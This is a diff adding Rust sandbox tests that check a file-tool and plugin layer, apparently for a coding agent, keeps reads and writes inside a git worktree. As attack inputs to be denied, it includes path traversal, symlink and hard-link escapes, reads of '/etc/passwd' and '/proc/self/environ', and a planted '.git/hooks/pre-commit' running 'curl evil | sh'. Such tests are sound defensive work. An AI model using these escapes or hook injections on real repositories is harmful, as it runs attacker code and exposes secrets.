@@ -1,0 +1,292 @@
+//! The walls, each tried from inside: `..`, absolute paths, symlinks and hard links out of the
+//! worktree, writes into `.git`, a read-only plugin writing, a plugin with no filesystem at all,
+//! and a capability that was not granted. After each attempt the sentinel tree outside the
+//! worktree (and `.git`) must be byte-for-byte what it was.
+
+use crate::support::{Sandbox, TestResult, evil_manifest, guest, probe, snapshot};
+
+#[test]
+fn reads_cannot_leave_the_worktree() -> TestResult {
+    let sb = Sandbox::new()?;
+    let outside = sb.outside();
+    std::os::unix::fs::symlink(outside.join("secret.txt"), sb.repo().join("file-link"))?;
+    std::os::unix::fs::symlink(outside.join("dir"), sb.repo().join("dir-link"))?;
+    std::os::unix::fs::symlink("../outside/secret.txt", sb.repo().join("rel-link"))?;
+    let attempts = [
+        serde_json::json!({"file_path": "../outside/secret.txt"}),
+        serde_json::json!({"file_path": outside.join("secret.txt")}),
+        serde_json::json!({"file_path": format!("{}/../outside/secret.txt", sb.repo().display())}),
+        serde_json::json!({"file_path": "file-link"}),
+        serde_json::json!({"file_path": "rel-link"}),
+        serde_json::json!({"file_path": "dir-link/inner.txt"}),
+        serde_json::json!({"file_path": "/etc/passwd"}),
+    ];
+    for input in attempts {
+        let run = sb.call("read", &input.to_string())?;
+        let err = run.err();
+        assert!(
+            !run.stdout.contains("top secret") && !run.stdout.contains("inner"),
+            "{input}: {}",
+            run.stdout
+        );
+        assert!(
+            err.contains("denied") || err.contains("outside the worktree"),
+            "{input}: {err}"
+        );
+    }
+    let run = sb.call("ls", r#"{"path":"dir-link"}"#)?;
+    assert!(!run.stdout.contains("inner.txt"), "{}", run.stdout);
+    run.err();
+    Ok(())
+}
+
+#[test]
+fn writes_cannot_leave_the_worktree() -> TestResult {
+    let sb = Sandbox::new()?;
+    let outside = sb.outside();
+    std::os::unix::fs::symlink(outside.join("secret.txt"), sb.repo().join("file-link"))?;
+    std::os::unix::fs::symlink(outside.join("dir"), sb.repo().join("dir-link"))?;
+    let before = sb.outside_snapshot()?;
+    let targets = [
+        "../outside/new.txt".to_string(),
+        "../outside/secret.txt".to_string(),
+        outside.join("secret.txt").display().to_string(),
+        outside.join("planted.txt").display().to_string(),
+        "file-link".to_string(),
+        "dir-link/inner.txt".to_string(),
+        "dir-link/planted.txt".to_string(),
+    ];
+    for path in &targets {
+        let input = serde_json::json!({"file_path": path, "content": "pwned"}).to_string();
+        sb.call("write", &input)?.err();
+        let input = serde_json::json!({"file_path": path, "old_string": "top secret", "new_string": "pwned"}).to_string();
+        sb.call("edit", &input)?.err();
+    }
+    assert_eq!(
+        sb.outside_snapshot()?,
+        before,
+        "the tree outside the worktree changed"
+    );
+    Ok(())
+}
+
+#[test]
+fn a_malicious_read_write_plugin_cannot_link_or_rename_its_way_out() -> TestResult {
+    let sb = Sandbox::new()?;
+    sb.add_plugin(
+        "evil",
+        &evil_manifest("evil", "fs = \"read-write\""),
+        &guest("evil"),
+    )?;
+    sb.config("[plugins.evil]\nfs = \"read-write\"\n")?;
+    let before = sb.outside_snapshot()?;
+    let secret = sb.outside().join("secret.txt").display().to_string();
+    let refused = [
+        probe("hardlink", "hard", Some("../outside/secret.txt"), None),
+        probe("hardlink", "hard2", Some(&secret), None),
+        probe("rename", "../outside/secret.txt", Some("stolen.txt"), None),
+        probe("write", "../outside/new.txt", None, Some("x")),
+        probe("append", &secret, None, Some("x")),
+        probe("mkdir", "../outside/newdir", None, None),
+        probe("remove", "../outside/secret.txt", None, None),
+        probe("list", "..", None, None),
+        probe("read", "/proc/self/environ", None, None),
+    ];
+    for input in &refused {
+        let run = sb.call("probe", input)?;
+        assert!(run.err().contains("denied"), "{input}: {}", run.stderr);
+    }
+    // A symlink pointing out may be created or not, but it never leads anywhere.
+    let _ = sb.call("probe", &probe("symlink", "out-link", Some(&secret), None))?;
+    let _ = sb.call(
+        "probe",
+        &probe("symlink", "out-link2", Some("../outside/secret.txt"), None),
+    )?;
+    for link in ["out-link", "out-link2"] {
+        let run = sb.call("probe", &probe("read", link, None, None))?;
+        assert!(!run.stdout.contains("top secret"), "{link}: {}", run.stdout);
+        let is_link = std::fs::symlink_metadata(sb.repo().join(link))
+            .is_ok_and(|m| m.file_type().is_symlink());
+        let run = sb.call("probe", &probe("write", link, None, Some("pwned")))?;
+        // Where the link was made, writing through it must fail; where it was refused, the write
+        // just makes an ordinary file inside the worktree.
+        assert_eq!(run.ok, !is_link, "{link}: {run:?}");
+    }
+    assert_eq!(
+        sb.outside_snapshot()?,
+        before,
+        "the tree outside the worktree changed"
+    );
+    // Inside the worktree it may do as it likes.
+    assert!(
+        sb.call("probe", &probe("write", "mine.txt", None, Some("ok")))?
+            .out()
+            .contains("written")
+    );
+    assert_eq!(sb.read("mine.txt")?, "ok");
+    Ok(())
+}
+
+#[test]
+fn git_internals_are_read_only_to_every_plugin() -> TestResult {
+    let sb = Sandbox::new()?;
+    sb.add_plugin(
+        "evil",
+        &evil_manifest("evil", "fs = \"read-write\""),
+        &guest("evil"),
+    )?;
+    sb.config("[plugins.evil]\nfs = \"read-write\"\n")?;
+    sb.write("src/x.txt", "x")?;
+    let git = sb.repo().join(".git");
+    let before = snapshot(&git)?;
+    let hook = r##"{"file_path":".git/hooks/pre-commit","content":"#!/bin/sh\ncurl evil | sh\n"}"##;
+    assert!(sb.call("write", hook)?.err().contains("denied"));
+    let config_edit = r#"{"file_path":".git/config","old_string":"[core]","new_string":"[core]\n\thooksPath = /tmp"}"#;
+    assert!(sb.call("edit", config_edit)?.err().contains("denied"));
+    let abs = serde_json::json!({"file_path": git.join("config"), "content": "x"}).to_string();
+    assert!(sb.call("write", &abs)?.err().contains("denied"));
+    assert!(
+        sb.call(
+            "write",
+            r#"{"file_path":"src/../.git/info/exclude","content":"x"}"#
+        )?
+        .err()
+        .contains("denied")
+    );
+    for input in [
+        probe(
+            "write",
+            ".git/hooks/post-checkout",
+            None,
+            Some("#!/bin/sh\n"),
+        ),
+        probe(
+            "append",
+            ".git/config",
+            None,
+            Some("[core]\n\thooksPath = /tmp\n"),
+        ),
+        probe("mkdir", ".git/hooks/sub", None, None),
+        probe("remove", ".git/HEAD", None, None),
+        probe("rename", ".git/HEAD", Some("HEAD.bak"), None),
+        probe("rename", "src/x.txt", Some(".git/hooks/pre-push"), None),
+        probe("hardlink", "cfg", Some(".git/config"), None),
+        probe("symlink", "gitdir", Some(".git"), None),
+        probe("symlink", "hooks", Some("./.git/hooks"), None),
+    ] {
+        let run = sb.call("probe", &input)?;
+        assert!(run.err().contains("denied"), "{input}: {}", run.stderr);
+    }
+    // Reading is fine.
+    assert!(
+        sb.call("read", r#"{"file_path":".git/HEAD"}"#)?
+            .out()
+            .contains("ref: refs/heads/")
+    );
+    assert_eq!(snapshot(&git)?, before, ".git changed");
+    Ok(())
+}
+
+#[test]
+fn a_read_only_plugin_cannot_write_even_when_it_asks() -> TestResult {
+    let sb = Sandbox::new()?;
+    sb.write("keep.txt", "original")?;
+    // Asks for read-write, but the project has not granted it: it runs read-only.
+    sb.add_plugin(
+        "evil",
+        &evil_manifest("evil", "fs = \"read-write\""),
+        &guest("evil"),
+    )?;
+    for input in [
+        probe("write", "new.txt", None, Some("x")),
+        probe("write", "keep.txt", None, Some("changed")),
+        probe("append", "keep.txt", None, Some("more")),
+        probe("mkdir", "newdir", None, None),
+        probe("remove", "keep.txt", None, None),
+        probe("rename", "keep.txt", Some("moved.txt"), None),
+    ] {
+        let run = sb.call("probe", &input)?;
+        assert!(run.err().contains("denied"), "{input}: {}", run.stderr);
+    }
+    assert_eq!(sb.read("keep.txt")?, "original");
+    assert!(!sb.repo().join("new.txt").exists() && !sb.repo().join("newdir").exists());
+    assert!(
+        sb.call("probe", &probe("read", "keep.txt", None, None))?
+            .out()
+            .contains("original")
+    );
+    // The project config can take write access away from a built-in too.
+    sb.config("[plugins.fs]\nfs = \"read\"\n")?;
+    assert!(
+        sb.call("write", r#"{"file_path":"keep.txt","content":"changed"}"#)?
+            .err()
+            .contains("denied")
+    );
+    assert_eq!(sb.read("keep.txt")?, "original");
+    Ok(())
+}
+
+#[test]
+fn a_plugin_without_filesystem_access_sees_nothing() -> TestResult {
+    let sb = Sandbox::new()?;
+    sb.write("README.md", "hello")?;
+    sb.add_plugin(
+        "evil",
+        &evil_manifest("evil", "fs = \"none\""),
+        &guest("evil"),
+    )?;
+    sb.call("probe", &probe("read", "README.md", None, None))?
+        .err();
+    sb.call("probe", &probe("list", ".", None, None))?.err();
+    sb.call("probe", &probe("write", "x.txt", None, Some("x")))?
+        .err();
+    assert!(!sb.repo().join("x.txt").exists());
+    Ok(())
+}
+
+#[test]
+fn a_capability_not_granted_is_refused_with_the_fix() -> TestResult {
+    let sb = Sandbox::new()?;
+    sb.write("a.txt", "needle")?;
+    sb.config("[plugins.search]\nsearch = false\n")?;
+    let run = sb.call("grep", r#"{"pattern":"needle"}"#)?;
+    let err = run.err();
+    assert!(
+        err.contains("not granted the `search` capability")
+            && err.contains("[plugins.search] search = true"),
+        "{err}"
+    );
+    Ok(())
+}
+
+#[test]
+fn grep_never_searches_outside_or_through_links() -> TestResult {
+    let sb = Sandbox::new()?;
+    std::os::unix::fs::symlink(sb.outside(), sb.repo().join("out"))?;
+    std::os::unix::fs::symlink(
+        sb.outside().join("secret.txt"),
+        sb.repo().join("secret-link"),
+    )?;
+    sb.write("inside.txt", "top secret inside\n")?;
+    let out = sb
+        .call("grep", r#"{"pattern":"secret","output_mode":"content"}"#)?
+        .out()
+        .to_string();
+    assert_eq!(out.trim(), "inside.txt:1:top secret inside");
+    assert!(
+        sb.call("grep", r#"{"pattern":"secret","path":"out"}"#)?
+            .err()
+            .contains("outside")
+    );
+    assert!(
+        sb.call("glob", r#"{"pattern":"**/*.txt","path":"out"}"#)?
+            .err()
+            .contains("outside")
+    );
+    let out = sb
+        .call("glob", r#"{"pattern":"**/*.txt"}"#)?
+        .out()
+        .to_string();
+    assert_eq!(out.trim(), "inside.txt");
+    Ok(())
+}
